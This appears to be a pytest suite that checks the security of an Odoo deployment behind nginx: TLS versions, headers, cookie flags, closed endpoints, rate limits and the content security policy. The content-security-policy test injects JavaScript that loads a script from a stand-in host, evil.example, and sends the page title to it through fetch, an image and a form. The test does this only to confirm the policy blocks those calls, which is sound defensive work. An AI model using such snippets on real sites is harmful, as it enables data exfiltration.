"""nginx and Odoo as in production, on the restored copy of the tests' database."""

import base64
import json
import os
import re
import ssl
import subprocess
import sys
import urllib.parse

import pytest

from odoo.tools import config

from launcher.home import REPOSITORY

from .browser import Browser
from .common import connect
from .web import NAME, Site, python_path

IDENTITY = "SELECT value FROM ir_config_parameter WHERE key = 'database.uuid'"
PASSWORD = "a long enough password"
HEADERS = {
    "Strict-Transport-Security": "max-age=31536000; includeSubDomains",
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "SAMEORIGIN",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}


@pytest.fixture(scope="module")
def neutral(restored, place, tmp_path_factory):
    """Neutralize the restored copy, as --neutralize does; give admin a password."""
    path = tmp_path_factory.mktemp("neutral") / "odoo.conf"
    role = place.connection.odoo
    path.write_text(
        "[options]\n"
        f"addons_path = {','.join(config['addons_path'])}\n"
        f"db_host = {place.connection.host or False}\n"
        f"db_port = {place.connection.port}\ndb_user = {role.name or False}\n"
        f"db_password = {role.password or False}\ndata_dir = {place.data}\n"
    )
    with connect(place, restored.name) as before, before.cursor() as cursor:
        cursor.execute(
            "SELECT value FROM ir_config_parameter WHERE key='database.uuid'"
        )
        identity = cursor.fetchone()
    before.close()
    subprocess.run(
        [
            *(sys.executable, "-m", "launcher.inside.neutralize"),
            *("--config", path, "--database", restored.name),
        ],
        check=True,
        cwd=REPOSITORY,
        env={**os.environ, "PYTHONPATH": python_path()},
        capture_output=True,
    )
    with connect(place, restored.name) as after, after.cursor() as cursor:
        cursor.execute(
            "UPDATE res_users SET password = %s WHERE login = 'admin'", [PASSWORD]
        )
        # This site runs no scheduled actions; none is late.
        cursor.execute("UPDATE ir_cron SET nextcall = now() + interval '1 day'")
    after.close()
    return restored.name, identity


@pytest.fixture(scope="module")
def site(neutral, place, tmp_path_factory):
    site = Site(tmp_path_factory.mktemp("site"), place, neutral[0])
    try:
        site.start()
        yield site
    finally:
        site.stop()


@pytest.fixture(scope="module")
def session(site):
    """Log in through nginx as a browser does; return the cookie's lines."""
    page, text = site.get("/web/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', text)[1]
    form = {"login": "admin", "password": PASSWORD, "csrf_token": token}
    headers = {
        "Cookie": cookie_of(page),
        "Content-Type": "application/x-www-form-urlencoded",
        "X-Forwarded-For": "203.0.113.7",
    }
    answer, _text = site.post(
        "/web/login", urllib.parse.urlencode(form), headers=headers
    )
    assert answer.status == 303, site.logs()
    return answer


def cookie_of(answer):
    lines = answer.headers.get_all("Set-Cookie") or []
    return next(line for line in lines if line.startswith("session_id=")).split(";")[0]


def fetch(site, session, path, **options):
    return site.get(path, headers={"Cookie": cookie_of(session)}, **options)


class TestNeutral:
    def test_a_copy_for_tests_sends_nothing(self, neutral, place):
        name, identity = neutral
        with connect(place, name) as connected, connected.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM ir_cron WHERE active")
            assert cursor.fetchone()[0] <= 1
            cursor.execute("SELECT DISTINCT smtp_host FROM ir_mail_server WHERE active")
            assert cursor.fetchall() == [("invalid",)]
            cursor.execute(IDENTITY)
            assert cursor.fetchone() != identity
        connected.close()


class TestTls:
    def test_what_comes_in_clear_is_sent_to_https(self, site):
        for path in ("/", "/web/login?a=1"):
            answer, _text = site.get(path, port=site.http, tls=False)
            assert answer.status == 301
            assert answer.headers["Location"] == f"https://{NAME}{path}"

    @pytest.mark.parametrize("version", ["TLSv1_2", "TLSv1_3"])
    def test_today_s_versions_are_spoken(self, site, version):
        context = site.trusting()
        context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
        connection = site.connect(context=context)
        assert connection.sock.version() == version.replace("_", ".")
        connection.close()

    @pytest.mark.filterwarnings("ignore:ssl.TLSVersion")
    def test_old_versions_are_refused(self, site):
        context = site.trusting()
        context.set_ciphers("ALL:@SECLEVEL=0")
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = ssl.TLSVersion.TLSv1_1
        with pytest.raises((ssl.SSLError, ConnectionError)):
            site.connect(context=context)

    def test_another_name_gets_no_certificate(self, site):
        with pytest.raises((ssl.SSLError, ConnectionError)):
            site.connect(name="other.example.sn")


class TestHeaders:
    @pytest.mark.parametrize("path", ["/web/login", "/web/database/x", "/nowhere"])
    def test_every_answer_has_them(self, site, path):
        answer, _text = site.get(path)
        for name, value in HEADERS.items():
            assert answer.headers.get_all(name) == [value]
        assert "frame-ancestors 'self'" in answer.headers["Content-Security-Policy"]

    def test_nobody_learns_the_version(self, site):
        answer, _text = site.get("/web/login")
        assert answer.headers["Server"] == "nginx"

    def test_the_session_s_cookie_is_for_https_and_this_site_only(self, session):
        lines = session.headers.get_all("Set-Cookie")
        line = next(line for line in lines if line.startswith("session_id="))
        words = {word.strip().lower() for word in line.split(";")[1:]}
        assert {"secure", "httponly", "samesite=lax", "path=/"} <= words
        # Twelve hours unused, then it ends.
        assert "max-age=43200" in words


class TestOdoo:
    def test_one_can_log_in_and_work(self, site, session):
        answer, text = fetch(site, session, "/odoo")
        assert answer.status == 200
        assert "__session_info__" in text
        body = json.dumps(
            {
                "jsonrpc": "2.0",
                "params": {
                    "model": "res.partner",
                    "method": "search_count",
                    "args": [[]],
                    "kwargs": {},
                },
            }
        )
        headers = {
            "Cookie": cookie_of(session),
            "Content-Type": "application/json",
        }
        _answer, text = site.post(
            "/web/dataset/call_kw/res.partner/search_count", body, headers=headers
        )
        assert json.loads(text)["result"] > 0

    def test_odoo_knows_its_address_from_nginx(self, session, restored, place):
        """It keeps the one by which an administrator logged in."""
        with connect(place, restored.name) as connected, connected.cursor() as cursor:
            cursor.execute(
                "SELECT value FROM ir_config_parameter WHERE key = 'web.base.url'"
            )
            assert cursor.fetchall() == [(f"https://{NAME}",)]
            cursor.execute("SELECT DISTINCT ip_address FROM res_device_log")
            addresses = {address for (address,) in cursor.fetchall()}
        connected.close()
        assert "203.0.113.7" not in addresses
        assert "127.0.0.1" in addresses

    @pytest.mark.parametrize(
        "path",
        [
            "/web/database/manager",
            "/web/database/selector",
            "/web/database/backup",
            "/web/database/list",
            "/jsonrpc",
            "/xmlrpc/2/common",
            "/xmlrpc/common",
        ],
    )
    def test_what_is_closed_is_closed(self, site, path):
        for method in ("GET", "POST"):
            assert site.request(method, path)[0].status == 404

    def test_the_database_manager_is_closed_in_odoo_too(self, site):
        answer, text = site.get("/web/database/manager", port=site.odoo, tls=False)
        assert "master_pwd" not in text or "disabled" in text
        body = json.dumps({"jsonrpc": "2.0", "params": {}})
        headers = {"Content-Type": "application/json"}
        answer, text = site.post(
            "/web/database/list", body, headers=headers, port=site.odoo, tls=False
        )
        assert answer.status != 200 or "error" in json.loads(text)

    def test_odoo_listens_on_this_machine_only(self, site):
        listening = set()
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            with open(table) as lines:
                for line in list(lines)[1:]:
                    address, port = line.split()[1].split(":")
                    if line.split()[3] == "0A":
                        listening.add((int(port, 16), address))
        for port in (site.odoo, site.gevent):
            assert [a for p, a in listening if p == port] == ["0100007F"]

    def test_a_websocket_is_opened(self, site, session):
        connection = site.connect()
        key = base64.b64encode(os.urandom(16)).decode()
        headers = {
            "Host": NAME,
            "Origin": f"https://{NAME}",
            "Cookie": cookie_of(session),
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Key": key,
            "Sec-WebSocket-Version": "13",
        }
        connection.request("GET", "/websocket?version=19.0-2", headers=headers)
        status = connection.sock.recv(12)
        connection.close()
        assert status == b"HTTP/1.1 101"


@pytest.fixture(scope="module")
def browser(site, session, tmp_path_factory):
    browser = Browser(tmp_path_factory.mktemp("browser"), site.https)
    browser.start()
    try:
        yield browser
    finally:
        browser.stop()


class TestBrowser:
    """What Odoo's pages need, the policy for contents allows; nothing more."""

    @pytest.mark.parametrize(
        ("path", "selector"),
        [
            ("/web/login", "form.oe_login_form"),
            ("/web/reset_password", "form.oe_reset_password_form"),
        ],
    )
    def test_a_stranger_s_page_works(self, browser, path, selector):
        browser.faults.clear()
        browser.open(path, selector)
        assert browser.faults == []

    def test_the_page_of_one_s_choices_works(self, browser, site):
        browser.faults.clear()
        browser.open(preferences_path(site), "form")
        assert browser.faults == []

    @pytest.mark.parametrize(
        ("path", "selector"),
        [
            ("/odoo/contacts", ".o_view_controller"),
            ("/odoo/contacts/1", ".o_form_view"),
            ("/odoo/crm", ".o_view_controller"),
            ("/odoo/settings", ".o_form_view"),
            (
                "/odoo/action-mass_mailing.mailing_mailing_action_mail/new",
                ".o_form_view",
            ),
            ("/my", ".o_portal_my_home"),
            ("/my/security", "form"),
        ],
    )
    def test_a_page_of_the_application_works(self, browser, session, path, selector):
        browser.set_cookie(cookie_of(session))
        browser.faults.clear()
        browser.open(path, selector)
        assert browser.faults == []

    def test_a_pdf_is_shown(self, site, browser, session):
        """As by the button Print: fetched by a form, here by its address."""
        browser.set_cookie(cookie_of(session))
        browser.open("/my", ".o_portal_my_home")
        browser.faults.clear()
        size = browser.evaluate(
            "fetch('/report/pdf/sunumarche_crm.customer_card_document/1')"
            ".then(r => r.blob()).then(b => b.type + ' ' + (b.size > 1000))"
        )
        assert size == "application/pdf true"
        assert browser.faults == []

    def test_nothing_is_loaded_from_elsewhere_nor_sent_there(self, browser):
        browser.open("/web/login", "form.oe_login_form")
        browser.faults.clear()
        for script in (
            (
                "new Promise(r => { const s = document.createElement('script');"
                " s.src = 'https://evil.example/x.js'; s.onerror = () => r(1);"
                " document.head.append(s) })"
            ),
            "fetch('https://evil.example/?' + document.title).catch(() => 1)",
            (
                "new Promise(r => { const i = new Image(); i.onerror = () => r(1);"
                " i.src = 'https://evil.example/x.png' })"
            ),
        ):
            assert browser.evaluate(script) == 1
        browser.evaluate(
            "const f = document.createElement('form'); document.body.append(f);"
            " f.action = 'https://evil.example/'; f.method = 'post'; f.submit()"
        )
        browser.evaluate("new Promise(r => setTimeout(r, 300))")
        refused = json.dumps(browser.faults)
        for directive in ("script-src", "connect-src", "img-src", "form-action"):
            assert directive in refused


PREFERENCES = """
import sys
from launcher.inside.environment import configure, open_environment
configure(sys.argv[1], sys.argv[2])
with open_environment(sys.argv[2]) as env:
    print(env["sunumarche.consent"]._get_preferences_url("email", "a@example.com"))
"""


def preferences_path(site):
    """Return the link that a customer's mail holds, signed by the copy's secret."""
    done = subprocess.run(
        [sys.executable, "-c", PREFERENCES, site.folder / "odoo.conf", site.database],
        check=True,
        cwd=REPOSITORY,
        env={**os.environ, "PYTHONPATH": python_path()},
        capture_output=True,
        text=True,
    )
    return urllib.parse.urlsplit(done.stdout.split()[-1]).path


class TestWatch:
    def test_a_stranger_learns_one_word_and_this_machine_all(self, site):
        answer, text = site.get("/sunumarche/health")
        assert json.loads(text) == {"status": "pass"}
        answer, text = site.get("/sunumarche/health", port=site.odoo, tls=False)
        assert answer.status == 200
        assert json.loads(text)["checks"]["database"]["size_bytes"] > 1_000_000
        assert site.get("/sunumarche/metrics")[0].status == 403
        direct = site.get("/sunumarche/metrics", port=site.odoo, tls=False)
        assert 'sunumarche_check_passes{check="database"} 1' in direct[1].split("\n")

    def test_without_its_database_it_says_so(self, site, place, restored):
        connection = place.connection
        names = restored.name, f"{restored.name}_away"
        self._rename(connection, *names)
        try:
            answer, text = site.get("/sunumarche/health", port=site.odoo, tls=False)
            assert (answer.status, json.loads(text)) == (503, {"status": "fail"})
        finally:
            self._rename(connection, *reversed(names))
        assert site.get("/sunumarche/health")[0].status == 200

    @staticmethod
    def _rename(connection, old, new):
        others = f"FROM pg_stat_activity WHERE datname = '{old}'"
        end = f"SELECT pg_terminate_backend(pid) {others}"
        connection.sql(f"{end}; ALTER DATABASE {old} RENAME TO {new}")

    def test_the_log_is_one_object_a_line(self, site, session):
        fetch(site, session, "/odoo")
        lines = (site.folder / "odoo.log").read_text().splitlines()
        objects = [json.loads(line) for line in lines if line.startswith("{")]
        requests = [one for one in objects if "queries" in one]
        assert {one["logger"] for one in requests} == {"werkzeug"}
        # Each process writes some lines in clear before it knows its modules.
        assert not [line for line in lines if " werkzeug: " in line]
        assert requests[-1]["database"] == site.database


class TestLimits:
    def test_a_file_that_is_too_large_is_refused_unread(self, site):
        connection = site.connect()
        connection.putrequest("POST", "/web/binary/upload_attachment", skip_host=True)
        connection.putheader("Host", NAME)
        connection.putheader("Content-Length", str(129 * 1024**2))
        connection.endheaders()
        assert connection.getresponse().status == 413
        connection.close()

    def test_who_tries_passwords_is_slowed_down_and_nobody_else(self, site, session):
        codes = [site.post("/web/login", "login=admin")[0].status for _n in range(70)]
        assert codes[0] == 400
        assert codes[-1] == 429
        assert site.get("/web/login")[0].status == 200
        assert fetch(site, session, "/odoo")[0].status == 200
